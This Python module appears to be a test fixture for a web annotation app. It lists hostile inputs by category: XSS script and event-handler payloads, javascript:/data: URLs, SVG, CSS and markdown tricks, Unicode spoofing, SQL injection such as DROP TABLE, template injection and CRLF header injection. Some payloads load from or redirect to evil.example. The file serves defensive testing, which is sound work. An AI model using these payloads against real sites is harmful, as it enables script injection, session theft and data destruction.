"""The hostile-input corpus: what an attacker (or a careless paste) types into any field.

Named by category, so a failure says what kind of trick got through. `ALL` is every payload once;
`BROWSER` a subset with the most dangerous of each category, stored all at once for the Chromium
run. Long strings and NUL are in `OVER_LIMIT` and `NUL`: they are answered, not stored as typed.
"""

from dataclasses import dataclass

A = "alert(1)"


@dataclass(frozen=True)
class Payload:
    category: str
    text: str

    @property
    def id(self) -> str:
        return f"{self.category}-{CATEGORIES[self.category].index(self.text)}"


CATEGORIES: dict[str, list[str]] = {
    "script": [
        f"<script>{A}</script>",
        f"<SCRIPT>{A}</SCRIPT>",
        "<script src=https://evil.example/x.js></script>",
        f"<script>{A}",
        f"<<script>{A}//<</script>",
        f'"><script>{A}</script>',
        f"'><script>{A}</script>",
        f"</textarea><script>{A}</script>",
        f"</title><script>{A}</script>",
        f"</script><script>{A}</script>",
        f"<scr<script>ipt>{A}</scr</script>ipt>",
        f"<script type=module>{A}</script>",
        f'<noscript><p title="</noscript><img src=x onerror={A}>">',
        f"<!--<script>{A}</script>-->",
        f"<![CDATA[<script>{A}</script>]]>",
    ],
    "event-handler": [
        f"<img src=x onerror={A}>",
        f'<img src="x" onerror="{A}">',
        f"<img src=x OnErRoR={A}>",
        f"<img/src=x/onerror={A}>",
        f"<body onload={A}>",
        f'<p onclick="{A}">x</p>',
        f'<a href="https://ok.example" onmouseover="{A}">x</a>',
        f"<details open ontoggle={A}>",
        f"<input autofocus onfocus={A}>",
        f"<video><source onerror={A}></video>",
        f"<audio src=x onerror={A}>",
        f"<marquee onstart={A}>x</marquee>",
        f'" onmouseover="{A}" x="',
        f"' onfocus='{A}' autofocus x='",
        f"<div onpointerenter={A}>x</div>",
        f"<select autofocus onfocus={A}>",
        "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    ],
    "url-scheme": [
        f'<a href="javascript:{A}">x</a>',
        f"[x](javascript:{A})",
        f"[x](JaVaScRiPt:{A})",
        f"[x](  javascript:{A})",
        f"[x](java\tscript:{A})",
        f"[x](java&#x0A;script:{A})",
        f"[x](&#106;avascript:{A})",
        f"[x](javascript&colon;{A})",
        f"[x](%6Aavascript:{A})",
        f'<a href="&#x6A;avascript:{A}">x</a>',
        f'<a href=" javascript:{A}">x</a>',
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "<a href=data:text/html,<script>alert(1)</script>>x</a>",
        "[x](vbscript:msgbox(1))",
        '<a href="vbscript:msgbox(1)">x</a>',
        f"<iframe src=javascript:{A}>",
        f'<form action="javascript:{A}"><button>x</button></form>',
        f'<button formaction="javascript:{A}">x</button>',
        "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>",
        "<embed src=data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+>",
        f"javascript:{A}",
    ],
    "svg-mathml": [
        f"<svg onload={A}>",
        f"<svg><script>{A}</script></svg>",
        f'<svg><a xlink:href="javascript:{A}"><text>x</text></a></svg>',
        f"<svg><animate onbegin={A} attributeName=x dur=1s>",
        f'<svg><set attributeName="href" to="javascript:{A}"/></svg>',
        f"<svg><foreignObject><img src=x onerror={A}></foreignObject></svg>",
        f"<math><mi xlink:href='javascript:{A}'>x</mi></math>",
        f'<math><maction actiontype="statusline" xlink:href="javascript:{A}">x</maction></math>',
        f"<svg><style><img src=x onerror={A}></style></svg>",
        f"<math><mtext><table><mglyph><style><img src=x onerror={A}>",
    ],
    "css": [
        f'<div style="background:url(javascript:{A})">x</div>',
        f'<div style="width:expression({A})">x</div>',
        "<style>body{display:none}</style>",
        "<style>@import 'https://evil.example/x.css';</style>",
        '<link rel=stylesheet href="https://evil.example/x.css">',
        '<p style="position:fixed;inset:0;background:red">x</p>',
        f"<style>*{{background:url('javascript:{A}')}}</style>",
        '<div style="behavior:url(x.htc)">x</div>',
    ],
    "markdown": [
        f"![x](javascript:{A})",
        f'![x](x" onerror="{A})',
        f"[x][r]\n\n[r]: javascript:{A}",
        "[x][r]\n\n[r]: data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        f"<javascript:{A}>",
        "<data:text/html,<script>alert(1)</script>>",
        f'[x](https://ok.example "title\\" onmouseover=\\"{A}")',
        f"[<img src=x onerror={A}>](https://ok.example)",
        f"[x](https://ok.example)<img src=x onerror={A}>",
        f"```\n</code><script>{A}</script>\n```",
        f"`<script>{A}</script>`",
        f"> <script>{A}</script>",
        f"* <img src=x onerror={A}>",
        f"[x](<javascript:{A}>)",
        f"[x](\\javascript:{A})",
        "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    ],
    "html": [
        '<iframe src="https://evil.example"></iframe>',
        "<object data=x></object>",
        "<embed src=https://evil.example/x.swf>",
        "<form action=https://evil.example><input name=x></form>",
        '<meta http-equiv="refresh" content="0;url=https://evil.example">',
        "<base href=https://evil.example/>",
        '<input type=hidden name=csrfmiddlewaretoken value="x">',
        "<template><script>alert(1)</script></template>",
        f"<textarea><img src=x onerror={A}></textarea>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        "&amp;lt;script&amp;gt;",
        "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
        "</div></main></body><h1>gefälscht</h1>",
    ],
    "unicode": [
        "\u202eevil.exe\u202c txt",
        "Bild\u202etxt.exe",
        "\u2066\u2067\u2068isolate\u2069",
        "\u200bBild\u200b",
        "\ufeffBild",
        "Bi\u200dld\u200c",
        "раураl",  # Cyrillic letters that look like "paypal"
        "Вild",  # a Cyrillic capital Ve in "Bild"
        f"<scr\u200bipt>{A}</scr\u200bipt>",
        f"java\u200bscript:{A}",
        "\U0001f600\U0001f4a9 Ünïcödé ß",
        "e\u0301\u0301\u0301\u0301 Zalgo",
        "\ufe64script\ufe65alert(1)\ufe64/script\ufe65",
        "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
        "line\u2028separator\u2029paragraph",
    ],
    "sql": [
        "' OR 1=1 --",
        '" OR "1"="1',
        "'; DROP TABLE annotations_annotation; --",
        "1; SELECT * FROM auth_user",
        "/* comment */ x",
        "' UNION SELECT password FROM auth_user --",
        "%' AND 1=1 --",
        "\\'; --",
        "_%_%",
        "Robert'); DROP TABLE students;--",
    ],
    "template": [
        "{{ 7*7 }}",
        "{% debug %}",
        "{{ request.user.password }}",
        "{% load static %}{% static 'x' %}",
        "${7*7}",
        "#{7*7}",
        "{{constructor.constructor('alert(1)')()}}",
        "<%= 7*7 %>",
    ],
    "crlf": [
        "a\r\nSet-Cookie: x=1",
        "a\r\n\r\n<script>alert(1)</script>",
        "a\rb\nc",
        "%0d%0aSet-Cookie:x=1",
    ],
}

ALL: list[Payload] = [Payload(name, text) for name, texts in CATEGORIES.items() for text in texts]

# The long ones: the most the fields allow is stored; one more is refused with a clear message.
LONG_WITHIN = "<script>alert(1)</script>" * 360  # 9,000 characters
LONG_OVER = "A" * 20_000
NUL = "Bild\x00<script>alert(1)</script>"

BROWSER_IDS = [
    "script-0",
    "script-5",
    "script-7",
    "script-9",
    "event-handler-0",
    "event-handler-4",
    "event-handler-7",
    "event-handler-8",
    "event-handler-12",
    "event-handler-13",
    "url-scheme-0",
    "url-scheme-1",
    "url-scheme-6",
    "url-scheme-11",
    "url-scheme-15",
    "url-scheme-16",
    "svg-mathml-0",
    "svg-mathml-2",
    "svg-mathml-5",
    "svg-mathml-9",
    "css-0",
    "css-2",
    "css-6",
    "markdown-0",
    "markdown-2",
    "markdown-6",
    "markdown-7",
    "markdown-9",
    "html-0",
    "html-4",
    "html-5",
    "unicode-0",
    "unicode-8",
    "sql-2",
    "template-0",
    "crlf-1",
]
BROWSER: list[Payload] = [p for p in ALL if p.id in BROWSER_IDS]
